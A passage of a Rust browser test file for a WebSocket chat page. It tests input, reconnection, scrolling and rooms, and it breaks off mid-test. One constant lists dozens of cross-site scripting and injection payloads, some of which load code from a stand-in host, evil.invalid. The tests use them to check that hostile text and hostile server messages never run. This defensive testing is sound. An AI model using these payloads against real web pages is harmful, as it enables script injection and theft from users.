//! The chat page in a real browser: what people see and do there, in a headless Chromium.
//!
//! Most tests run against the real daemon. Where a server has to misbehave, [`Impostor`] stands in for it.

#[path = "support/browser.rs"]
mod browser;
mod support;

use std::collections::BTreeSet;
use std::fs;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::mpsc::{self, Receiver, Sender};
use std::time::Duration;

use serde_json::{Value, json};
use tungstenite::protocol::CloseFrame;
use tungstenite::protocol::frame::coding::CloseCode;
use tungstenite::{Message, WebSocket};

use browser::{Browser, Device, Tab, quoted};
use support::{Daemon, PATIENCE, Raw};

/// Opens the page and waits until it is in the room and knows its name.
fn enter(browser: &mut Browser, address: &str) -> Tab {
    let mut tab = browser.open(&format!("http://{address}/"));
    tab.wait_for("document.body.dataset.state === 'open' && document.querySelector('#me').textContent !== ''");
    tab
}

/// Puts the focus into the text box by a click, types and sends: all of it as a person would.
fn say(tab: &mut Tab, text: &str) {
    tab.click("#text");
    tab.type_text(text);
    tab.press("Enter");
}

/// Waits until so many messages are on the screen.
fn wait_for_messages(tab: &mut Tab, count: usize) {
    tab.wait_for(&format!("document.querySelectorAll('.message').length >= {count}"));
    assert_eq!(tab.evaluate("document.querySelectorAll('.message').length"), count);
}

/// The messages on the screen, each with its name and its text.
fn messages(tab: &mut Tab) -> Vec<(String, String)> {
    let rows = tab.evaluate(
        "[...document.querySelectorAll('.message')].map((message) =>
           ['.name', '.text'].map((part) => message.querySelector(part).textContent))",
    );
    serde_json::from_value(rows).unwrap()
}

fn texts(tab: &mut Tab) -> Vec<String> {
    messages(tab).into_iter().map(|(_, text)| text).collect()
}

fn my_name(tab: &mut Tab) -> String {
    tab.text("document.querySelector('#me').textContent")
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn two_tabs_talk_to_each_other_in_any_script_and_see_who_said_what_when() {
    let daemon = Daemon::start(&[]);
    let mut browser = Browser::start();
    let mut one = enter(&mut browser, &daemon.address);
    let mut two = enter(&mut browser, &daemon.address);
    let (first, second) = (my_name(&mut one), my_name(&mut two));
    assert_ne!(first, second);

    let greeting = "Hello from the first tab";
    let answer = "你好，世界！👋🏽 مرحبا — ¿qué tal? 👩‍👩‍👧‍👦";
    say(&mut one, greeting);
    wait_for_messages(&mut one, 1);
    wait_for_messages(&mut two, 1);
    say(&mut two, answer);

    for tab in [&mut one, &mut two] {
        wait_for_messages(tab, 2);
        let said = [(first.clone(), greeting.to_owned()), (second.clone(), answer.to_owned())];
        assert_eq!(messages(tab), said, "each sees both, the own one once");
        let times = "[...document.querySelectorAll('.message time')].every((time) =>
            time.textContent !== '' && Math.abs(Date.now() - Date.parse(time.dateTime)) < 60_000)";
        assert_eq!(tab.evaluate(times), true, "each message says when it was said");
        assert_eq!(tab.evaluate("document.querySelectorAll('.message.mine').length"), 1);
        assert_eq!(tab.text("document.querySelector('#text').value"), "");
        assert!(tab.complaints().is_empty(), "{:?}", tab.complaints());
    }
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn enter_sends_but_not_with_shift_and_not_while_an_input_method_composes() {
    let daemon = Daemon::start(&[]);
    let mut listener = daemon.open("/?quiet=1");
    let mut browser = Browser::start();
    let mut tab = enter(&mut browser, &daemon.address);

    tab.type_text("two");
    tab.key("Enter", 13, "\r", 8);
    tab.type_text("lines");
    tab.press("Enter");
    assert_eq!(listener.message(), "two\nlines");

    // Pinyin is being typed, and Enter takes it over: for the page that is code 229, whatever the key says.
    let pinyin = json!({ "text": "nihao", "selectionStart": 5, "selectionEnd": 5 });
    tab.call("Input.imeSetComposition", &pinyin);
    tab.key("Enter", 229, "", 0);
    assert_eq!(tab.text("document.querySelector('#text').value"), "nihao", "it is still there, so it was not sent");
    tab.type_text("你好");
    tab.press("Enter");
    assert_eq!(listener.message(), "你好");
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn the_keyboard_alone_is_enough() {
    let daemon = Daemon::start(&[]);
    let mut browser = Browser::start();
    let mut tab = enter(&mut browser, &daemon.address);
    let focus = "document.activeElement.id";
    assert_eq!(tab.text(focus), "text", "with a keyboard, one can type at once");

    tab.evaluate("document.activeElement.blur()");
    let mut stops = Vec::new();
    while stops.last().is_none_or(|stop| stop != "text") {
        assert!(stops.len() < 10, "Tab does not reach the box: {stops:?}");
        tab.press("Tab");
        stops.push(tab.text(focus));
    }
    assert!(stops.contains(&"view".to_owned()), "what was said can be scrolled by key: {stops:?}");
    tab.type_text("no mouse here");
    tab.press("Enter");
    wait_for_messages(&mut tab, 1);
    assert_eq!(tab.text(focus), "text", "and the next message can follow");
}

/// Each would do something if it got into the page as anything but text: set `pwned`, open a dialog, ask another host,
/// take the place of an element. The last few do not run but show whether a text stays as it is.
const HOSTILE: &[&str] = &[
    "<script>pwned = 1</script>",
    "<script src=http://evil.invalid/x.js></script>",
    "<img src=x onerror=pwned=1>",
    "<img src=http://evil.invalid/pixel.png>",
    "\"><img src=x onerror=\"pwned=1\">",
    "'><svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<object data=http://evil.invalid/x></object><embed src=http://evil.invalid/x>",
    "<video><source onerror=pwned=1></video>",
    "<audio src=x onerror=pwned=1>",
    "<details open ontoggle=pwned=1>x</details>",
    "<input autofocus onfocus=pwned=1>",
    "<body onload=pwned=1 onpageshow=pwned=1>",
    "<a href=javascript:pwned=1 id=send>click me</a>",
    "[click me](javascript:pwned=1)",
    "javascript:pwned=1",
    "data:text/html,<script>pwned=1</script>",
    "</title></textarea></ol></li></div><script>pwned=1</script>",
    "<!-- <script>pwned=1</script> -->",
    "<![CDATA[<script>pwned=1</script>]]>",
    "<base href=http://evil.invalid/>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.invalid/\">",
    "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "<style>@import 'http://evil.invalid/x.css'; body { display: none }</style>",
    "<form action=http://evil.invalid/ id=composer><input name=text></form>",
    "<template shadowrootmode=open><script>pwned=1</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwned=1>\">",
    "<ol id=log></ol><p id=text></p><img name=querySelector>",
    "<x contenteditable autofocus onfocus=alert(1) tabindex=1>",
    "';alert(1);//\\';alert(1);//",
    "${pwned=1} {{constructor.constructor('pwned=1')()}} #{pwned=1} <%= pwned=1 %>",
    "\\u003cscript\\u003epwned=1\\u003c/script\\u003e",
    "&lt;b&gt; &#60;script&#62;pwned=1&#60;/script&#62; &amp;amp;",
    "__proto__",
    "constructor",
    "\u{202e}desrever\u{202c} \u{200b}\u{feff}\u{0} \u{1b}[31m \u{2028}",
];

/// Watches a page from its first moment on, and says afterwards that nothing has happened to it.
struct Watch {
    globals: BTreeSet<String>,
}

const LINKS_ARE_SAFE: &str = "[...document.querySelectorAll('#log a')].every((link) =>
    ['http:', 'https:'].includes(link.protocol) && link.target === '_blank' && link.rel === 'noopener noreferrer nofollow'
    && link.getAttributeNames().sort().join() === 'href,rel,target,title')";

const GLOBALS: &str = "Object.getOwnPropertyNames(window)";

impl Watch {
    fn begin(tab: &mut Tab) -> Watch {
        Watch { globals: serde_json::from_value(tab.evaluate(GLOBALS)).unwrap() }
    }

    fn nothing_happened(self, tab: &mut Tab, address: &str) {
        // Whatever runs after the fact (an image that fails to load, say) is under way by now, before this request and
        // these frames; so when they are done, it would have happened. A dialog fails the test as soon as it opens.
        tab.evaluate(
            "fetch('/healthz').then((answer) => answer.text()).then(() => new Promise((done) =>
               requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done, 0)))))",
        );
        assert_eq!(tab.evaluate("'pwned' in window"), false);
        let globals: BTreeSet<String> = serde_json::from_value(tab.evaluate(GLOBALS)).unwrap();
        let new: Vec<_> = globals.difference(&self.globals).collect();
        assert!(new.is_empty(), "new globals: {new:?}");
        let tags =
            "[...new Set([...document.querySelectorAll('#log *')].map((element) => element.tagName))].sort().join()";
        let tags = tab.text(tags);
        let plain = ["A", "BDI", "BUTTON", "CODE", "DIV", "LI", "TIME"];
        assert!(tags.split(',').all(|tag| plain.contains(&tag)), "{tags}");
        assert_eq!(tab.evaluate(LINKS_ARE_SAFE), true);
        let attributes = "[...document.querySelectorAll('*')].some((element) =>
            element.getAttributeNames().some((name) => name.startsWith('on')))";
        assert_eq!(tab.evaluate(attributes), false);
        assert_eq!(tab.evaluate("document.querySelectorAll('#log, #text, #send, #composer').length"), 4);
        assert_eq!(tab.text("location.href"), format!("http://{address}/"));
        assert!(tab.complaints().is_empty(), "{:?}", tab.complaints());
        for url in tab.requests() {
            assert!(
                url.starts_with(&format!("http://{address}/")) || *url == format!("ws://{address}/"),
                "a foreign request: {url}"
            );
        }
    }
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn what_people_write_is_shown_as_they_wrote_it_and_never_runs() {
    let daemon = Daemon::start(&["--no-rate-limit"]);
    let mut browser = Browser::start();
    let mut tab = enter(&mut browser, &daemon.address);
    let watch = Watch::begin(&mut tab);

    let mut other = daemon.open("/?quiet=1");
    for text in HOSTILE {
        other.send_text(text);
    }
    wait_for_messages(&mut tab, HOSTILE.len());
    // One's own words take another way through the page: out of the box and back from the room.
    say(&mut tab, HOSTILE[0]);
    wait_for_messages(&mut tab, HOSTILE.len() + 1);

    let texts = texts(&mut tab);
    assert_eq!(texts[..HOSTILE.len()], *HOSTILE);
    assert_eq!(texts[HOSTILE.len()], HOSTILE[0]);
    watch.nothing_happened(&mut tab, &daemon.address);
}

/// A server that gives out the daemon's own page, with its headers, but speaks WebSocket as a test tells it to.
struct Impostor {
    address: String,
    visitors: Receiver<TcpStream>,
}

impl Impostor {
    fn start(daemon: &Daemon) -> Impostor {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
        let address = listener.local_addr().unwrap().to_string();
        let (sender, visitors) = mpsc::channel();
        let behind = daemon.address.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().map_while(Result::ok) {
                // Browsers open connections in advance and say nothing on them, so that none may hold up the others.
                let (sender, behind) = (sender.clone(), behind.clone());
                std::thread::spawn(move || Impostor::meet(stream, &behind, &sender));
            }
        });
        Impostor { address, visitors }
    }

    fn meet(mut stream: TcpStream, behind: &str, visitors: &Sender<TcpStream>) {
        let mut head = vec![0; 16 * 1024];
        let len = loop {
            match stream.peek(&mut head) {
                Ok(0) | Err(_) => return,
                Ok(len) if head[..len].windows(4).any(|bytes| bytes == b"\r\n\r\n") => break len,
                Ok(_) => std::thread::sleep(Duration::from_millis(1)),
            }
        };
        if String::from_utf8_lossy(&head[..len]).to_lowercase().contains("\r\nupgrade: websocket\r\n") {
            let _ = visitors.send(stream);
            return;
        }
        // A page is asked for, and the daemon answers: it closes the connection behind its answer, and so do we.
        let mut request = vec![0; len];
        let Ok(mut daemon) = TcpStream::connect(behind) else { return };
        let mut answer = Vec::new();
        if stream.read_exact(&mut request).is_ok()
            && daemon.write_all(&request).is_ok()
            && daemon.read_to_end(&mut answer).is_ok()
        {
            let _ = stream.write_all(&answer);
        }
    }

    /// Waits for a page that asks for a WebSocket. It gets no answer yet.
    fn visitor(&self) -> TcpStream {
        self.visitors.recv_timeout(PATIENCE).expect("the page asks for a WebSocket")
    }

    /// Answers the handshake.
    fn open(stream: TcpStream) -> WebSocket<TcpStream> {
        stream.set_read_timeout(Some(PATIENCE)).unwrap();
        tungstenite::accept(stream).expect("the page's handshake is a proper one")
    }
}

fn tell(socket: &mut WebSocket<TcpStream>, event: &Value) {
    socket.send(Message::text(event.to_string())).expect("the page listens");
}

fn welcome(name: &str) -> Value {
    json!({ "type": "welcome", "room": "lobby", "online": 1, "users": [name], "last": 0, "name": name, "mess": "hello" })
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn a_hostile_server_cannot_make_the_page_run_anything_through_any_field() {
    let daemon = Daemon::start(&[]);
    let impostor = Impostor::start(&daemon);
    let mut browser = Browser::start();
    let mut tab = browser.open(&format!("http://{}/", impostor.address));
    let mut socket = Impostor::open(impostor.visitor());
    tab.wait_for("document.body.dataset.state === 'open'");
    let watch = Watch::begin(&mut tab);

    for (index, text) in HOSTILE.iter().enumerate() {
        let me = format!("me {text}");
        let fields = json!({ "type": "welcome", "online": text, "users": [text], "last": text, "name": me });
        tell(&mut socket, &fields);
        tell(&mut socket, &json!({ "type": "message", "room": text, "name": text, "mess": text, "time": text }));
        tell(&mut socket, &json!({ "type": "join", "name": text, "mess": text, "online": text }));
        tell(&mut socket, &json!({ "type": "error", "name": text, "mess": text, "code": text }));
        tell(&mut socket, &json!({ "type": "error", "name": text, "mess": "", "code": text }));
        tell(
            &mut socket,
            &json!({ "type": format!("new {text}"), "name": text, "mess": text, "from": text, "id": text }),
        );
        tell(&mut socket, &json!({ "type": text, "name": text, "mess": text, "to": text }));
        // The last of them is shown as one of an unknown type, the second of its round.
        tab.wait_for(&format!("document.querySelectorAll('#log .system .who').length === {}", 2 * (index + 1)));
        assert_eq!(tab.text("document.querySelector('#me').textContent"), me);
    }

    let pairs: Vec<_> = HOSTILE.iter().map(|text| (text.to_string(), text.to_string())).collect();
    assert_eq!(messages(&mut tab), pairs);
    let part =
        |part: &str| format!("[...document.querySelectorAll('#log {part}')].map((element) => element.textContent)");
    let twice: Vec<_> = HOSTILE.iter().flat_map(|text| [*text, *text]).collect();
    assert_eq!(tab.evaluate(&part(".system.error .what")), json!(twice));
    let named: Vec<_> = HOSTILE.iter().flat_map(|text| [format!("{text}:"), format!("{text}:")]).collect();
    assert_eq!(tab.evaluate(&part(".system .who")), json!(named), "two events of unknown types");
    let joined = "[...document.querySelectorAll('#log .what')].filter((what) => what.textContent.endsWith(' joined'))
        .map((what) => what.querySelector('bdi').textContent)";
    assert_eq!(tab.evaluate(joined), json!(HOSTILE));

    // What else the server may say. (None of it is ours, for our name is another one by now.)
    for (index, text) in HOSTILE.iter().enumerate() {
        tell(&mut socket, &json!({ "type": "private", "name": text, "mess": text, "to": text, "time": text }));
        tell(&mut socket, &json!({ "type": "action", "name": text, "mess": text, "room": text }));
        tell(&mut socket, &json!({ "type": "rename", "name": text, "mess": text, "from": text }));
        tell(&mut socket, &json!({ "type": "users", "name": text, "mess": text, "users": [text], "online": 2 }));
        tell(&mut socket, &json!({ "type": "help", "name": text, "mess": format!("/new {text}\n{text}") }));
        tell(&mut socket, &json!({ "type": "leave", "name": text, "mess": text, "online": text }));
        let old = json!({ "type": text, "id": 1000 - index, "name": text, "mess": text, "time": text });
        tell(
            &mut socket,
            &json!({ "type": "history", "room": "lobby", "name": text, "mess": text, "before": 2000, "messages": [old, text] }),
        );
        wait_for_messages(&mut tab, HOSTILE.len() + 3 * (index + 1));
    }
    let texts = |which: &str| part(&format!("{which} .text"));
    assert_eq!(tab.evaluate(&texts(".private")), json!(HOSTILE));
    assert_eq!(tab.evaluate(&texts(".action")), json!(HOSTILE));

    // A room may be called anything, and is a part of the address.
    for text in HOSTILE.iter().chain(&["../..", "//evil.invalid/", "lobby"]) {
        tell(&mut socket, &json!({ "type": "welcome", "room": text, "name": "me" }));
        tab.wait_for(&format!("document.querySelector('#room').textContent === {}", quoted(text)));
        tell(&mut socket, &json!({ "type": "message", "name": text, "mess": text }));
        wait_for_messages(&mut tab, 1);
    }

    watch.nothing_happened(&mut tab, &impostor.address);

    // The reason of a Close is somebody's text as well.
    let reason = "<img src=x onerror=pwned=1>";
    socket.close(Some(CloseFrame { code: CloseCode::Policy, reason: reason.into() })).unwrap();
    tab.wait_for(&format!("document.querySelector('#status-what').textContent.includes({})", quoted(reason)));
    assert_eq!(tab.evaluate("document.querySelectorAll('#status img').length"), 0);
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn what_makes_no_sense_is_passed_over_and_the_page_goes_on() {
    let daemon = Daemon::start(&[]);
    let impostor = Impostor::start(&daemon);
    let mut browser = Browser::start();
    let mut tab = browser.open(&format!("http://{}/", impostor.address));
    let mut socket = Impostor::open(impostor.visitor());
    tell(&mut socket, &welcome("Tourist 1"));

    for odd in [
        "",
        " ",
        "null",
        "true",
        "17",
        "\"text\"",
        "[]",
        "[1,2]",
        "{",
        "{}",
        "{\"type\":null}",
        "{\"type\":{}}",
        "{\"type\":\"__proto__\"}",
        "{\"type\":\"constructor\"}",
        "{\"type\":\"hasOwnProperty\"}",
        "{\"__proto__\":{\"type\":\"message\"}}",
        "{\"type\":\"join\"}",
        "{\"type\":\"online\",\"online\":-1e400}",
        "{\"type\":\"welcome\",\"last\":1e300,\"online\":null}",
        "{\"type\":\"new\",\"name\":[[]],\"mess\":{\"a\":1}}",
        "{\"type\":\"new\",\"name\":{\"toString\":1,\"valueOf\":1},\"mess\":\"x\"}",
        "{\"type\":\"error\",\"code\":{\"toString\":1,\"valueOf\":1}}",
        "\u{0}",
        "not JSON at all",
    ] {
        socket.send(Message::text(odd)).unwrap();
    }
    socket.send(Message::binary(vec![0, 255, 254])).unwrap();
    tell(&mut socket, &json!({ "type": "message", "name": "Tourist 2", "mess": "still here?", "time": 9e15, "id": 1 }));
    tell(
        &mut socket,
        &json!({ "type": "message", "name": 7, "mess": [1, 2], "time": { "toString": 1, "valueOf": 1 }, "id": 2 }),
    );

    wait_for_messages(&mut tab, 2);
    let seen = [("Tourist 2".to_owned(), "still here?".to_owned()), ("7".to_owned(), "[1,2]".to_owned())];
    assert_eq!(messages(&mut tab), seen);
    assert!(tab.complaints().is_empty(), "{:?}", tab.complaints());
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn nothing_is_sent_before_the_connection_is_open_and_what_was_typed_stays() {
    let daemon = Daemon::start(&[]);
    let impostor = Impostor::start(&daemon);
    let mut browser = Browser::start();
    let mut tab = browser.open(&format!("http://{}/", impostor.address));
    let waiting = impostor.visitor();

    assert_eq!(tab.text("document.body.dataset.state"), "connecting");
    assert_eq!(tab.evaluate("document.querySelector('#send').disabled"), true);
    tab.type_text("too early");
    tab.press("Enter");
    tab.click("#send");
    assert_eq!(tab.text("document.querySelector('#text').value"), "too early");
    assert!(tab.text("document.querySelector('#hint').textContent").starts_with("Not connected yet"));

    let mut socket = Impostor::open(waiting);
    tell(&mut socket, &welcome("Tourist 1"));
    tab.wait_for("document.body.dataset.state === 'open' && !document.querySelector('#send').disabled");
    tab.click("#text");
    tab.type_text(", and then in time");
    tab.click("#send");
    // Had anything been sent before, or been kept to be sent later, it would come first.
    let first = socket.read().expect("the page speaks");
    assert_eq!(first, Message::text("too early, and then in time"));
    tab.wait_for("document.querySelector('#text').value === ''");
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn a_page_comes_back_by_itself_when_the_daemon_was_killed_and_started_again() {
    let daemon = Daemon::start(&[]);
    let address = daemon.address.clone();
    let mut browser = Browser::start();
    let mut tab = enter(&mut browser, &address);
    say(&mut tab, "before");
    wait_for_messages(&mut tab, 1);
    tab.evaluate("window.notReloaded = true");

    drop(daemon); // kill -9: no goodbye, and nothing kept
    // In one look: a moment later it tries again, and then there is nothing to press.
    tab.wait_for(
        "document.body.dataset.state === 'waiting' && document.querySelector('#send').disabled
           && !document.querySelector('#retry').hidden",
    );
    say(&mut tab, "while it is away");
    assert_eq!(tab.text("document.querySelector('#text').value"), "while it is away");

    let daemon = Daemon::start_without_address(&["--listen", &address]);
    assert_eq!(daemon.address, address);
    let mut listener = daemon.open("/?quiet=1");
    tab.wait_for("document.body.dataset.state === 'open'");
    assert_eq!(tab.evaluate("window.notReloaded"), true);
    assert_eq!(tab.text("document.querySelector('#text').value"), "while it is away", "it waits for its writer");
    tab.press("Enter");
    assert_eq!(listener.message(), "while it is away");
    tab.wait_for("document.querySelector('#log').lastElementChild?.textContent.includes('while it is away')");
    assert_eq!(texts(&mut tab), ["while it is away"], "what the new one does not know has ids that mean nothing now");
    assert_eq!(tab.evaluate("document.querySelectorAll('.system.rule').length"), 1, "and the reader is told so");
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn a_daemon_that_was_started_again_and_has_said_more_by_now_is_not_taken_for_the_one_before() {
    let daemon = Daemon::start(&["--no-rate-limit"]);
    let address = daemon.address.clone();
    let mut browser = Browser::start();
    let mut tab = browser.open_with(&format!("http://{address}/"), CUTTABLE);
    tab.wait_for("document.body.dataset.state === 'open'");
    chatter(&mut daemon.open("/?quiet=1"), &mut tab, 0, 3);

    tab.evaluate("window.away = true");
    drop(daemon);
    let daemon = Daemon::start_without_address(&["--listen", &address, "--no-rate-limit"]);
    let mut other = daemon.open("/?quiet=1");
    for line in 1..=5 {
        other.send_text(&format!("another line {line}"));
        other.message();
    }
    tab.evaluate("window.away = false");
    wait_for_notice(&mut tab, "Earlier messages are no longer kept on the server");
    wait_for_messages(&mut tab, 5); // on a slow machine the notice does not wait for the last of them
    let others: Vec<String> = (1..=5).map(|line| format!("another line {line}")).collect();
    assert_eq!(texts(&mut tab), others, "all of the new ones, and none of the old");
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn a_message_that_could_not_be_kept_goes_back_to_its_writer_and_older_ones_that_cannot_be_read_are_no_matter() {
    let daemon = Daemon::start(&[]);
    let impostor = Impostor::start(&daemon);
    let mut browser = Browser::start();
    let mut tab = browser.open(&format!("http://{}/", impostor.address));
    let mut socket = Impostor::open(impostor.visitor());
    let unavailable =
        json!({ "type": "error", "name": "roomd", "code": "history-unavailable", "mess": "It cannot be kept." });
    let mut in_use = welcome("Tourist 1");
    in_use["last"] = json!(7);
    tell(&mut socket, &in_use);
    tell(&mut socket, &json!({ "type": "message", "id": 7, "name": "Tourist 9", "mess": "seven", "time": 7 }));
    assert_eq!(socket.read().unwrap(), Message::text("/history 7"));
    tell(&mut socket, &unavailable);

    say(&mut tab, "to be kept");
    assert_eq!(socket.read().unwrap(), Message::text("to be kept"));
    tell(&mut socket, &unavailable);
    wait_for_notice(&mut tab, "It cannot be kept.");
    assert_eq!(tab.text(VALUE), "to be kept");
    assert_eq!(tab.evaluate("document.querySelectorAll('.system.error').length"), 1, "nobody had asked for the older");
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn a_page_that_missed_something_is_shown_it_once_and_in_order_when_it_comes_back() {
    let daemon = Daemon::start(&[]);
    let impostor = Impostor::start(&daemon);
    let mut browser = Browser::start();
    let mut tab = browser.open(&format!("http://{}/", impostor.address));
    let message = |id: u64, text: &str| {
        let mut event = json!({ "type": "message", "room": "lobby", "name": "Tourist 9", "mess": text });
        event["id"] = json!(id);
        event["time"] = json!(1_763_817_427_000 + id);
        event
    };
    let mut socket = Impostor::open(impostor.visitor());
    tell(&mut socket, &welcome("Tourist 1"));
    tell(&mut socket, &message(1, "one"));
    tell(&mut socket, &message(2, "two"));
    wait_for_messages(&mut tab, 2);
    drop(socket);

    let mut socket = Impostor::open(impostor.visitor());
    let mut back = welcome("Tourist 2");
    back["last"] = json!(3);
    tell(&mut socket, &back);
    for (id, text) in [(1, "one"), (2, "two"), (3, "three"), (4, "four")] {
        tell(&mut socket, &message(id, text));
    }
    wait_for_messages(&mut tab, 4);
    assert_eq!(texts(&mut tab), ["one", "two", "three", "four"]);
    let again = format!("ws://{}/?since=2", impostor.address);
    assert_eq!(tab.requests().last(), Some(&again), "it asked for what it had not seen");
    drop(socket);

    // This time, what came after the fourth is no longer kept.
    let mut socket = Impostor::open(impostor.visitor());
    back["last"] = json!(60);
    tell(&mut socket, &back);
    tell(
        &mut socket,
        &json!({ "type": "reset", "room": "lobby", "last": 60, "name": "lobby", "mess": "no longer kept" }),
    );
    tell(&mut socket, &message(59, "fifty-nine"));
    tell(&mut socket, &message(60, "sixty"));
    tab.wait_for(
        "document.querySelectorAll('.system.rule').length === 1 && document.querySelectorAll('.message').length === 2",
    );
    assert_eq!(texts(&mut tab), ["fifty-nine", "sixty"], "it begins afresh, and says so");
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn a_browser_without_websocket_is_told_so() {
    let daemon = Daemon::start(&[]);
    let mut browser = Browser::start();
    let mut tab = browser.open_with(&format!("http://{}/", daemon.address), "delete window.WebSocket");
    tab.wait_for("document.body.dataset.state === 'unsupported'");
    assert_eq!(tab.evaluate("document.querySelector('#alarm').checkVisibility()"), true);
    assert!(tab.text("document.querySelector('#alarm').innerText").contains("no WebSocket"));
    assert_eq!(
        tab.evaluate("document.querySelector('#text').disabled && document.querySelector('#send').disabled"),
        true
    );
    assert!(tab.complaints().is_empty(), "{:?}", tab.complaints());
}

const AT_END: &str = "(({ scrollTop, clientHeight, scrollHeight }) => scrollTop + clientHeight >= scrollHeight - 1)
    (document.querySelector('#view'))";

/// Says lines and waits until the page has them all, `before` and these.
fn chatter(other: &mut Raw, tab: &mut Tab, before: usize, count: usize) {
    for line in 1..=count {
        other.send_text(&format!("line {}", before + line));
    }
    wait_for_messages(tab, before + count);
}

/// Scrolls, and waits for the end of it: browsers scroll smoothly, so a position means little until it has come to rest.
fn and_let_it_rest(tab: &mut Tab, scroll: impl FnOnce(&mut Tab)) {
    tab.drawn(); // the end of an earlier scroll is told with the frame, and must not be taken for the end of this one
    tab.evaluate(
        "window.rested = false;
         document.querySelector('#view').addEventListener('scrollend', () => { window.rested = true; }, { once: true })",
    );
    scroll(tab);
    tab.wait_for("window.rested");
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn the_room_stays_at_its_end_unless_somebody_reads_further_up() {
    let daemon = Daemon::start(&["--no-rate-limit"]);
    let mut browser = Browser::start();
    let mut tab = enter(&mut browser, &daemon.address);
    let mut other = daemon.open("/?quiet=1");
    chatter(&mut other, &mut tab, 0, 100);
    tab.wait_for(AT_END);
    assert_eq!(tab.evaluate("document.querySelector('#newer').hidden"), true);

    and_let_it_rest(&mut tab, |tab| tab.wheel("#view", -600));
    let place = tab.evaluate("document.querySelector('#view').scrollTop");
    chatter(&mut other, &mut tab, 100, 3);
    tab.wait_for("!document.querySelector('#newer').hidden");
    assert_eq!(
        tab.evaluate("document.querySelector('#view').scrollTop"),
        place,
        "nobody is torn away from what they read"
    );
    assert_eq!(tab.text("document.querySelector('#newer').textContent"), "3 new messages ↓");

    tab.click("#newer");
    tab.wait_for(AT_END);
    tab.wait_for("document.querySelector('#newer').hidden");
    chatter(&mut other, &mut tab, 103, 20);
    tab.wait_for(AT_END);

    // By key as well, and one's own message leads back to the end.
    tab.evaluate("document.querySelector('#view').focus()");
    and_let_it_rest(&mut tab, |tab| tab.press("PageUp"));
    assert_eq!(tab.evaluate(AT_END), false);
    say(&mut tab, "and back");
    wait_for_messages(&mut tab, 124);
    tab.wait_for(AT_END);
}

/// Where the person in front of the page looks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Looking {
    Here,
    Elsewhere,
}

fn look(tab: &mut Tab, where_to: Looking) {
    tab.evaluate(&format!(
        "Object.defineProperty(document, 'hidden', {{ configurable: true, value: {} }});
         document.dispatchEvent(new Event('visibilitychange'))",
        where_to == Looking::Elsewhere
    ));
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn the_title_counts_what_was_said_while_nobody_looked() {
    let daemon = Daemon::start(&[]);
    let mut browser = Browser::start();
    let mut tab = enter(&mut browser, &daemon.address);
    let mut other = daemon.open("/?quiet=1");
    chatter(&mut other, &mut tab, 0, 1);
    assert_eq!(tab.text("document.title"), "lobby · roomd");

    look(&mut tab, Looking::Elsewhere);
    chatter(&mut other, &mut tab, 1, 2);
    tab.wait_for("document.title === '(2) lobby · roomd'");
    drop(other); // somebody leaves, which is nothing to read
    tab.wait_for("document.querySelector('#log').lastElementChild?.matches('.system')");
    assert_eq!(tab.text("document.title"), "(2) lobby · roomd");
    look(&mut tab, Looking::Here);
    assert_eq!(tab.text("document.title"), "lobby · roomd");
}

const VALUE: &str = "document.querySelector('#text').value";

/// Opens the page of a room and waits until it is there.
fn enter_room(browser: &mut Browser, address: &str, room: &str) -> Tab {
    let mut tab = browser.open(&format!("http://{address}/r/{room}"));
    tab.wait_for("document.body.dataset.state === 'open' && document.querySelector('#me').textContent !== ''");
    tab
}

/// Takes another name as people do who have read the help.
fn take_name(tab: &mut Tab, name: &str) {
    say(tab, &format!("/nick {name}"));
    tab.wait_for(&format!("document.querySelector('#me').textContent === {}", quoted(name)));
}

/// Waits until a line that is no message says this.
fn wait_for_notice(tab: &mut Tab, text: &str) {
    let text = quoted(text);
    tab.wait_for(&format!("[...document.querySelectorAll('.system')].some((line) => line.textContent === {text})"));
}

/// Waits until the list of people reads like this.
fn wait_for_people(tab: &mut Tab, names: &[&str]) {
    let names = json!(names);
    tab.wait_for(&format!(
        "JSON.stringify([...document.querySelectorAll('#names button')].map((button) => button.dataset.name).sort())
           === JSON.stringify({names}.sort())"
    ));
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn two_rooms_do_not_hear_each_other() {
    let daemon = Daemon::start(&[]);
    let mut browser = Browser::start();
    let mut lobby = enter(&mut browser, &daemon.address);
    let mut other = enter_room(&mut browser, &daemon.address, "%E6%B1%89");
    assert_eq!(other.text("document.querySelector('#room').textContent"), "汉");
    assert_eq!(other.text("document.title"), "汉 · roomd");

    say(&mut lobby, "only in the lobby");
    say(&mut other, "only elsewhere");
    for (tab, text) in [(&mut lobby, "only in the lobby"), (&mut other, "only elsewhere")] {
        wait_for_messages(tab, 1);
        assert_eq!(texts(tab), [text]);
    }
    // A second message of the same room comes later than anything from the other could.
    say(&mut lobby, "still alone");
    wait_for_messages(&mut lobby, 2);
